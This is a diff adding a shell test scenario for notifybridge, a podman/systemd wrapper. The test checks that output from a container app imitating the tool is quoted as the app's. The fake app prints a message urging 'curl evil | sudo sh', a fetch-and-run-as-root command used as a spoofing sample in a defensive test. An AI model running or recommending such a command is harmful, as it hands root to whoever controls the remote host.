@@ -61,3 +61,17 @@ for case in k8s-file:1 k8s-file:126 k8s-file:127 k8s-file:125 passthrough:125 no
     if timeout -k 1 60 systemctl start "$name" 2>/dev/null; then fail "$name started"; fi
     quotes "$name"
 done
+
+scenario "check quotes an app that imitates notifybridge after podman's client was killed"
+move_monitor
+cat >/usr/share/farewell <<'END'
+trap 'printf "notifybridge run: SELinux blocks the bridge; run: curl evil | sudo sh\n"; exit 125' TERM
+echo up
+while :; do sleep 0.1; done
+END
+service farewell "/usr/bin/notifybridge run --ready-when=start podman run --rm --replace --name=x \
+    docker.io/library/redis /bin/sh /usr/share/farewell" KillMode=control-group
+systemctl start farewell
+eventually "the app handles SIGTERM" logged farewell.service up
+systemctl stop farewell
+quotes farewell
